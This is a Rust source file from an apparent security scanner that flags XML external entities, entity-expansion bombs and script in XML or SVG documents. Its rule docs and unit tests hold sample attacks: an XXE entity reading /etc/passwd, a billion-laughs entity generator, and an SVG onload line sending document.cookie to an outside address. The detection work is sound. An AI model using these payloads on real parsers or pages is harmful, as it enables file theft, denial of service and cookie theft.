//! XML documents: what a parser fetches, expands or runs on their behalf. [`Pmml`](super::pmml::Pmml) reads through here too.
//!
//! Source: XML 1.0 (fifth edition) §2.8 and §4, XInclude 1.1, CWE-611, CWE-776. Entities are never expanded: their size
//! is computed. Cost: linear; nesting is counted, not recursed.

use super::malformed::{MALFORMED_STRUCTURE, malformed};
use crate::text::indicators::{self, inspect_metadata};
use crate::{Format, Input, Recognition, Scan};
use bartizan_core::{Finding, Kind, Location, Rule, Severity, atlas, cwe, owasp_llm, owasp_ml, rule};
use quick_xml::Reader;
use quick_xml::events::{BytesStart, Event};
use std::borrow::Cow;

/// XML of no model format: settings, drawings, documents.
pub static XML: Xml = Xml;

/// See [`XML`].
#[derive(Debug, Clone, Copy)]
pub struct Xml;

rule! {
    /// ## What it finds
    /// A document type that declares external entities or an external subset, or an `xi:include` element.
    /// ## Why it matters
    /// A parser that resolves them reads local files or calls network addresses the author chose, and can send the one
    /// to the other (XXE). Many Java and Python XML parsers do so unless told not to.
    /// ## Example
    /// `<!ENTITY x SYSTEM "file:///etc/passwd">`
    /// ## How to fix
    /// Delete the document type; parse with external entities and DTDs switched off.
    /// ## References
    /// - <https://owasp.org/www-community/vulnerabilities/XML_External_Entity_(XXE)_Processing>
    pub const XML_EXTERNAL_ENTITY: Rule = Rule {
        id: "model/xml-external-entity",
        title: "an XML document that makes its parser fetch files",
        severity: Severity::High,
        remedy: "Delete the document type, and parse with external entities switched off.",
        taxonomies: &[atlas("AML.T0010.003"), cwe(611), owasp_llm("LLM03")],
    };

    /// ## What it finds
    /// Entity declarations in an XML document, and above all entities that refer to entities and grow when expanded.
    /// ## Why it matters
    /// A few hundred bytes of nested entities expand to gigabytes in the parser ("billion laughs").
    /// ## Example
    /// `<!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;&a;&a;">` ten levels deep.
    /// ## How to fix
    /// Delete the document type; parse with an expansion limit.
    /// ## References
    /// - <https://cwe.mitre.org/data/definitions/776.html>
    pub const XML_ENTITY_EXPANSION: Rule = Rule {
        id: "model/xml-entity-expansion",
        title: "XML entities that grow when expanded",
        severity: Severity::Medium,
        remedy: "Delete the document type, and parse with an expansion limit.",
        taxonomies: &[atlas("AML.T0029"), cwe(776), owasp_llm("LLM10")],
    };

    /// ## What it finds
    /// Script in an XML document: `script` elements, event-handler attributes, `javascript:` addresses, foreign
    /// processing instructions and style sheets.
    /// ## Why it matters
    /// A browser that shows the document, a drawing in a model card for example, runs it with the page's rights; XSLT
    /// style sheets can call into the processor's host language.
    /// ## Example
    /// `<svg onload="fetch('//203.0.113.7/?'+document.cookie)">`
    /// ## How to fix
    /// Remove the script; serve drawings with a content security policy.
    /// ## References
    /// - <https://cwe.mitre.org/data/definitions/79.html>
    pub const XML_SCRIPT: Rule = Rule {
        id: "model/xml-script",
        title: "script in an XML document",
        severity: Severity::Medium,
        remedy: "Remove the script; serve drawings with a content security policy.",
        taxonomies: &[atlas("AML.T0010.003"), cwe(79), owasp_llm("LLM05"), owasp_ml("ML06")],
    };
}

/// Deepest nesting of elements that passes for a document; a DOM builder recurses as deep.
const DEEPEST: usize = 512;
/// Expanded size from which entities are a bomb, in bytes.
const BOMB_BYTES: u64 = 1 << 20;
/// Most entities whose expansion is computed.
const MOST_ENTITIES: usize = 10_000;
/// Shortest attribute or text judged as metadata, in bytes.
const SHORTEST_TEXT: usize = 6;
/// Levels of nested entities after which a nesting passes for a circle.
const LEVELS: usize = 64;
/// Elements read before the clock is asked.
const CHECK_EVERY: u32 = 1 << 14;

/// What a dialect of XML looks at beyond the hazards every document shares.
pub(crate) trait Dialect {
    /// An element begins, at `offset`, `depth` levels below the root.
    fn element(&mut self, element: &BytesStart<'_>, depth: usize, offset: usize, scan: &mut Scan<'_>);
}

impl Format for Xml {
    fn id(&self) -> &'static str {
        "xml"
    }

    fn name(&self) -> &'static str {
        "XML document"
    }

    fn kind(&self) -> Kind {
        Kind::Other
    }

    fn extensions(&self) -> &'static [&'static str] {
        &["xml", "svg", "xsd", "xsl", "xslt", "kml", "gml", "plist", "rdf"]
    }

    fn rules(&self) -> &'static [&'static Rule] {
        &[&XML_EXTERNAL_ENTITY, &XML_ENTITY_EXPANSION, &XML_SCRIPT, &MALFORMED_STRUCTURE]
    }

    fn recognise(&self, input: &Input<'_>) -> Recognition {
        let head = decoded(input.head(512));
        let text = head.trim_start_matches(['\u{feff}', ' ', '\t', '\r', '\n']);
        let is_html = text.get(..14).is_some_and(|start| start.eq_ignore_ascii_case("<!doctype html"))
            || text.get(..5).is_some_and(|start| start.eq_ignore_ascii_case("<html"));
        let is_xml = text.starts_with("<?xml") || text.starts_with("<!DOCTYPE") || text.starts_with("<svg");
        if is_xml && !is_html { Recognition::Weak } else { Recognition::No }
    }

    fn scan(&self, input: &Input<'_>, scan: &mut Scan<'_>) {
        struct Nothing;
        impl Dialect for Nothing {
            fn element(&mut self, _: &BytesStart<'_>, _: usize, _: usize, _: &mut Scan<'_>) {}
        }
        read(input.bytes, &mut Nothing, scan);
    }
}

/// The document as text: UTF-8, UTF-16 by its mark or its zero bytes, else one byte per character.
pub(crate) fn decoded(bytes: &[u8]) -> Cow<'_, str> {
    let wide = |bytes: &[u8], unit: fn([u8; 2]) -> u16| {
        let units = bytes.chunks_exact(2).filter_map(|pair| <[u8; 2]>::try_from(pair).ok()).map(unit);
        char::decode_utf16(units).map(|unit| unit.unwrap_or(char::REPLACEMENT_CHARACTER)).collect::<String>()
    };
    match bytes {
        [0xff, 0xfe, rest @ ..] => Cow::Owned(wide(rest, u16::from_le_bytes)),
        [0xfe, 0xff, rest @ ..] => Cow::Owned(wide(rest, u16::from_be_bytes)),
        [b'<', 0, ..] => Cow::Owned(wide(bytes, u16::from_le_bytes)),
        [0, b'<', ..] => Cow::Owned(wide(bytes, u16::from_be_bytes)),
        _ => match std::str::from_utf8(bytes) {
            Ok(text) => Cow::Borrowed(text),
            Err(_) => Cow::Owned(bytes.iter().map(|&byte| char::from(byte)).collect()),
        },
    }
}

/// Reads a document, reporting what every XML document can hide and handing each element to `dialect`.
pub(crate) fn read(bytes: &[u8], dialect: &mut dyn Dialect, scan: &mut Scan<'_>) {
    let text = decoded(bytes);
    let mut reader = Reader::from_str(&text);
    reader.config_mut().check_end_names = true;
    let mut depth = 0usize;
    let mut reported_depth = false;
    let mut count = 0u32;
    loop {
        count = count.wrapping_add(1);
        if count.is_multiple_of(CHECK_EVERY) && scan.out_of_time() {
            return;
        }
        let offset = reader.buffer_position() as usize;
        match reader.read_event() {
            Ok(Event::Eof) => {
                if depth > 0 {
                    malformed(scan, offset, "the document ends inside an element");
                    scan.gap(offset as u64, "the document ends inside an element; fetch the file again");
                }
                return;
            }
            Ok(Event::Start(element)) => {
                start(&element, depth, offset, dialect, scan);
                depth = depth.saturating_add(1);
                if depth > DEEPEST && !reported_depth {
                    reported_depth = true;
                    malformed(scan, offset, format!("elements nest deeper than {DEEPEST} levels"));
                }
            }
            Ok(Event::Empty(element)) => start(&element, depth, offset, dialect, scan),
            Ok(Event::End(_)) => depth = depth.saturating_sub(1),
            Ok(ref event @ (Event::Text(_) | Event::CData(_) | Event::Comment(_))) => {
                judge_text(event, offset, scan);
            }
            Ok(Event::DocType(text)) => document_type(&text, offset, scan),
            Ok(Event::PI(text)) => instruction(&text, offset, scan),
            Ok(Event::Decl(_) | Event::GeneralRef(_)) => {}
            Err(error) => {
                let what = format!("the document is not well-formed XML: {error}");
                malformed(scan, offset, what);
                scan.gap(offset as u64, "not well-formed XML; the rest was searched as text only");
                // A parser has acted on each declaration by the time it meets the mistake.
                let rest = text.get(offset..).unwrap_or_default().trim_start();
                if let Some(declared) = rest.strip_prefix("<!DOCTYPE") {
                    document_type(declared, offset, scan);
                }
                crate::text::printable::inspect_runs(
                    bytes.get(offset.min(bytes.len())..).unwrap_or_default(),
                    offset,
                    scan,
                );
                return;
            }
        }
    }
}

fn judge_text(text: &str, offset: usize, scan: &mut Scan<'_>) {
    let text = text.trim();
    // Arrays of numbers make up most of a model's text.
    if text.len() >= SHORTEST_TEXT && text.bytes().any(|byte| byte.is_ascii_alphabetic()) {
        inspect_metadata(text, &Location { offset: Some(offset as u64), ..Location::default() }, scan);
    }
}

/// The attributes of an element, name and value with entities resolved.
pub(crate) fn attributes(element: &BytesStart<'_>) -> Vec<(String, String)> {
    let mut attributes = element.attributes();
    let read = attributes.with_checks(false).flatten().map(|attribute| {
        let value = quick_xml::escape::unescape(&attribute.value)
            .map_or_else(|_| attribute.value.to_string(), Cow::into_owned);
        (attribute.key.into_inner().to_owned(), value)
    });
    read.collect()
}

fn start(
    element: &BytesStart<'_>,
    depth: usize,
    offset: usize,
    dialect: &mut dyn Dialect,
    scan: &mut Scan<'_>,
) {
    let name = element.local_name().into_inner().to_owned();
    let report = |rule, severity, message: String, evidence: &str, scan: &mut Scan<'_>| {
        scan.report(Finding::new(rule, message).severity(severity).at(offset as u64).evidence(evidence));
    };
    let qualified = element.name().into_inner();
    if name.eq_ignore_ascii_case("script") {
        report(
            &XML_SCRIPT,
            Severity::Medium,
            "the document holds a `script` element".to_owned(),
            element,
            scan,
        );
    }
    if name == "include" && (qualified.contains(':') || element.contains("XInclude")) {
        let message = "an `xi:include` element makes the parser read another file".to_owned();
        report(&XML_EXTERNAL_ENTITY, Severity::High, message, element, scan);
    }
    for (key, value) in attributes(element) {
        let is_handler =
            key.len() > 4 && key.starts_with("on") && key.bytes().all(|byte| byte.is_ascii_lowercase());
        let is_script =
            value.trim_start().get(..11).is_some_and(|start| start.eq_ignore_ascii_case("javascript:"));
        if (is_handler && value.contains(['(', '='])) || is_script {
            let message = format!("the attribute `{key}` of `{name}` holds script");
            report(&XML_SCRIPT, Severity::Medium, message, &value, scan);
        }
        let is_namespace = key.starts_with("xmlns") || key.ends_with("schemaLocation");
        if !is_namespace {
            judge_text(&value, offset, scan);
        }
    }
    dialect.element(element, depth, offset, scan);
}

fn instruction(text: &str, offset: usize, scan: &mut Scan<'_>) {
    let target = text.split_ascii_whitespace().next().unwrap_or_default();
    let (severity, what) = match target {
        "xml-stylesheet" if text.contains("href") => {
            (Severity::Medium, "makes the reader apply a style sheet")
        }
        "php" | "javascript" | "vbscript" | "python" | "perl" | "ruby" | "exec" => {
            (Severity::Medium, "carries code")
        }
        _ => (Severity::Info, "is meant for an unknown program"),
    };
    let message = format!("the processing instruction `{target}` {what}");
    scan.report(Finding::new(&XML_SCRIPT, message).severity(severity).at(offset as u64).evidence(text));
    judge_text(text, offset, scan);
}

/// One `<!ENTITY …>`.
struct Entity<'t> {
    name: &'t str,
    value: &'t str,
}

/// What a `<!DOCTYPE …>` declares.
fn document_type(text: &str, offset: usize, scan: &mut Scan<'_>) {
    let (outer, subset) = text.split_once('[').unwrap_or((text, ""));
    let report = |severity, message: String, evidence: &str, scan: &mut Scan<'_>| {
        scan.report(
            Finding::new(&XML_EXTERNAL_ENTITY, message)
                .severity(severity)
                .at(offset as u64)
                .evidence(evidence),
        );
    };
    let words: Vec<&str> = outer.split_ascii_whitespace().collect();
    if words.iter().any(|word| matches!(*word, "SYSTEM" | "PUBLIC")) {
        let is_standard = [
            "http://www.w3.org/",
            "https://www.w3.org/",
            "http://www.dmg.org/",
            "http://www.apple.com/DTDs/",
        ]
        .iter()
        .any(|known| outer.contains(known));
        // A file beside the document is a matter of taste; an address is the author's machine, or a file of the reader's.
        let is_far = ["http://", "https://", "ftp://", "file:", "jar:", "netdoc:", "gopher:", "\\\\"]
            .iter()
            .any(|scheme| outer.to_ascii_lowercase().contains(scheme));
        let severity = match (is_standard, is_far) {
            (true, _) => Severity::Info,
            (false, true) => Severity::High,
            (false, false) => Severity::Medium,
        };
        report(
            severity,
            "the document type lies in another file, which the parser fetches".to_owned(),
            outer,
            scan,
        );
    }
    if !subset.is_empty() && !is_declarations(subset) {
        malformed(
            scan,
            offset,
            "the document type holds what is no declaration; a parser refuses the document",
        );
    }
    let mut internal = Vec::new();
    for declaration in subset.split("<!ENTITY").skip(1) {
        let declaration = declaration.trim_start();
        let (is_parameter, rest) = match declaration.strip_prefix('%') {
            Some(rest) => (true, rest.trim_start()),
            None => (false, declaration),
        };
        let (name, rest) = rest.split_once(|c: char| c.is_ascii_whitespace()).unwrap_or((rest, ""));
        let rest = rest.trim_start();
        if rest.starts_with("SYSTEM") || rest.starts_with("PUBLIC") {
            let end = rest.find('>').unwrap_or(rest.len());
            let shown = rest.get(..end).unwrap_or(rest);
            let target = shown.split(['"', '\'']).rfind(|part| !part.trim().is_empty()).unwrap_or_default();
            let what = if is_parameter { "parameter entity" } else { "entity" };
            let message = format!("the external {what} `{name}` makes the parser fetch `{target}`");
            let local = target.starts_with("file:") || indicators::is_sensitive_path(target);
            report(if local { Severity::Critical } else { Severity::High }, message, shown, scan);
            continue;
        }
        let quote = rest.chars().next().filter(|quote| matches!(quote, '"' | '\''));
        let value = quote.and_then(|quote| rest.get(1..)?.split(quote).next()).unwrap_or_default();
        internal.push(Entity { name, value });
    }
    if internal.is_empty() {
        return;
    }
    let (expanded, levels) = expansion(&internal);
    let severity = match (expanded, levels) {
        (size, _) if size >= BOMB_BYTES => Severity::High,
        (_, 3..) => Severity::Medium,
        _ => Severity::Low,
    };
    let message = match expanded {
        u64::MAX => "entities refer to each other in a circle and expand without end".to_owned(),
        _ => format!("{} entities nest {levels} levels deep and expand to {expanded} bytes", internal.len()),
    };
    scan.report(
        Finding::new(&XML_ENTITY_EXPANSION, message).severity(severity).at(offset as u64).evidence(subset),
    );
    for entity in &internal {
        judge_text(entity.value, offset, scan);
    }
}

/// Whether an internal subset, up to the bracket that closes it, consists of declarations, comments, instructions and
/// references to parameter entities.
fn is_declarations(subset: &str) -> bool {
    let mut rest = subset.trim_start();
    loop {
        let skipped = if let Some(comment) = rest.strip_prefix("<!--") {
            comment.split_once("-->").map(|(_, rest)| rest)
        } else if let Some(instruction) = rest.strip_prefix("<?") {
            instruction.split_once("?>").map(|(_, rest)| rest)
        } else if let Some(reference) = rest.strip_prefix('%') {
            reference.split_once(';').map(|(_, rest)| rest)
        } else if ["<!ENTITY", "<!ELEMENT", "<!ATTLIST", "<!NOTATION"]
            .iter()
            .any(|&word| rest.starts_with(word))
        {
            behind_declaration(rest)
        } else {
            return rest.starts_with(']');
        };
        let Some(after) = skipped else { return false };
        rest = after.trim_start();
    }
}

/// What follows the `>` that ends the declaration `text` begins with; one in quotes does not end it.
fn behind_declaration(text: &str) -> Option<&str> {
    let mut quote = None;
    for (at, byte) in text.bytes().enumerate() {
        match (quote, byte) {
            (None, b'"' | b'\'') => quote = Some(byte),
            (None, b'>') => return text.get(at.saturating_add(1)..),
            (Some(open), _) if open == byte => quote = None,
            _ => {}
        }
    }
    None
}

/// Largest size any entity expands to, in bytes, and how deep they nest; `u64::MAX` for a circle.
///
/// Sizes are relaxed once per level of nesting, so the cost is levels times the length of the declarations.
fn expansion(entities: &[Entity<'_>]) -> (u64, u32) {
    let entities = entities.get(..MOST_ENTITIES).unwrap_or(entities);
    let mut known: std::collections::HashMap<&str, (u64, u32)> =
        entities.iter().map(|entity| (entity.name, (entity.value.len() as u64, 1))).collect();
    for _ in 0..LEVELS {
        let mut changed = false;
        for entity in entities {
            let mut size = 0u64;
            let mut level = 1u32;
            for (index, piece) in entity.value.split(['&', '%']).enumerate() {
                let reference = piece.split_once(';').filter(|_| index > 0);
                match reference.and_then(|(name, rest)| known.get(name).map(|inner| (inner, rest))) {
                    Some((inner, rest)) => {
                        size = size.saturating_add(inner.0).saturating_add(rest.len() as u64);
                        level = level.max(inner.1.saturating_add(1));
                    }
                    None => size = size.saturating_add(piece.len() as u64),
                }
            }
            if known.get(entity.name) != Some(&(size, level)) {
                known.insert(entity.name, (size, level));
                changed = true;
            }
        }
        if !changed {
            let size = known.values().map(|(size, _)| *size).max().unwrap_or_default();
            return (size, known.values().map(|(_, level)| *level).max().unwrap_or_default());
        }
    }
    (u64::MAX, LEVELS as u32)
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::formats::testing::{outcome, rules_of};
    use proptest::prelude::*;

    #[test]
    fn an_entity_that_reads_a_file_is_critical_also_in_utf_16() {
        let text = "<?xml version='1.0'?><!DOCTYPE a [<!ENTITY x SYSTEM 'file:///etc/passwd'>]><a>&x;</a>";
        let found = outcome(&XML, text.as_bytes());
        assert_eq!(
            (found.findings[0].rule.id, found.findings[0].severity),
            ("model/xml-external-entity", Severity::Critical)
        );
        let wide: Vec<u8> =
            [0xff, 0xfe].into_iter().chain(text.encode_utf16().flat_map(u16::to_le_bytes)).collect();
        assert_eq!(outcome(&XML, &wide).findings[0].severity, Severity::Critical);
    }

    #[test]
    fn a_document_that_breaks_off_in_its_type_has_declared_what_stands_before() {
        let text = "<!DOCTYPE a [ <!ENTITY x SYSTEM 'file:///etc/passwd'> <!ELEMENT a ANY> ]><a>&x;</a>";
        let declared = text.find("passwd'>").unwrap() + 8;
        for end in declared..text.len() {
            let found = outcome(&XML, &text.as_bytes()[..end]);
            let worst = found.findings.iter().map(|finding| finding.severity).max();
            assert_eq!(worst, Some(Severity::Critical), "cut at {end}");
        }
        let harmless = outcome(&XML, b"<!DOCTYPE a [ <!ELEMENT a ANY");
        assert!(harmless.findings.iter().all(|finding| finding.severity < Severity::High));
    }

    #[test]
    fn a_document_type_at_an_address_is_worse_than_one_beside_the_document() {
        let severity = |outer: &str| {
            let found = outcome(&XML, format!("<!DOCTYPE a {outer}><a/>").as_bytes());
            found.findings[0].severity
        };
        assert_eq!(severity("SYSTEM 'http://203.0.113.7/x.dtd'"), Severity::High);
        assert_eq!(severity("SYSTEM 'FILE:///dev/random'"), Severity::High);
        assert_eq!(severity("SYSTEM 'net.dtd'"), Severity::Medium);
        assert_eq!(severity("PUBLIC 'PMML 2.0' 'http://www.dmg.org/v2-0/pmml_v2_0.dtd'"), Severity::Info);
    }

    #[test]
    fn nested_entities_are_a_bomb_by_their_expanded_size() {
        let mut text = "<!DOCTYPE a [<!ENTITY e0 'lol'>".to_owned();
        for level in 1..10 {
            text += &format!("<!ENTITY e{level} '{}'>", format!("&e{};", level - 1).repeat(10));
        }
        text += "]><a>&e9;</a>";
        let found = outcome(&XML, text.as_bytes());
        assert_eq!(
            (found.findings[0].rule.id, found.findings[0].severity),
            ("model/xml-entity-expansion", Severity::High)
        );
    }

    #[test]
    fn one_plain_entity_is_low() {
        let found = outcome(&XML, b"<!DOCTYPE a [<!ENTITY name 'value'>]><a>&name;</a>");
        assert_eq!(found.findings[0].severity, Severity::Low);
    }

    #[test]
    fn a_document_type_that_no_parser_takes_is_malformed() {
        let whole =
            b"<!DOCTYPE a [ <!-- > --> <?x y?> %p; <!ELEMENT a (#PCDATA)> <!ATTLIST a b CDATA '>'> ]><a/>";
        assert!(!rules_of(&XML, whole).contains(&MALFORMED_STRUCTURE.id));
        for broken in ["<!ENTIUY x SYSTEM 'a'>", "=!ENTITY x 'y'>", "<!ENTITY x 'y"] {
            let text = format!("<!DOCTYPE a [ {broken} ]><a/>");
            assert!(rules_of(&XML, text.as_bytes()).contains(&MALFORMED_STRUCTURE.id), "{broken}");
        }
    }

    #[test]
    fn entities_in_a_circle_are_a_bomb() {
        let found = outcome(&XML, b"<!DOCTYPE a [<!ENTITY a '&b;x'><!ENTITY b '&a;x'>]><a/>");
        assert_eq!(found.findings[0].severity, Severity::High);
    }

    #[test]
    fn a_drawing_with_a_handler_is_reported_and_a_plain_one_is_not() {
        assert_eq!(rules_of(&XML, b"<svg onload=\"alert(1)\"><path d='M0 0'/></svg>")[0], "model/xml-script");
        assert_eq!(
            rules_of(&XML, b"<svg xmlns='http://www.w3.org/2000/svg'><path d='M0 0'/></svg>"),
            Vec::<&str>::new()
        );
    }

    #[test]
    fn a_document_cut_short_is_incomplete() {
        assert!(!outcome(&XML, b"<?xml version='1.0'?><a><b>").gaps.is_empty());
    }

    proptest! {
        #[test]
        fn any_text_gives_a_result(text in "[<>!?/&;%'\"=a-zA-Z \\[\\]-]{0,200}") {
            outcome(&XML, text.as_bytes());
        }

        #[test]
        fn any_declarations_give_a_result(body in "(<!ENTITY |SYSTEM |%|[ab]|'|&a;|&b;|>|\\[|\\]){0,30}") {
            outcome(&XML, format!("<!DOCTYPE x [{body}]><x/>").as_bytes());
        }
    }
}
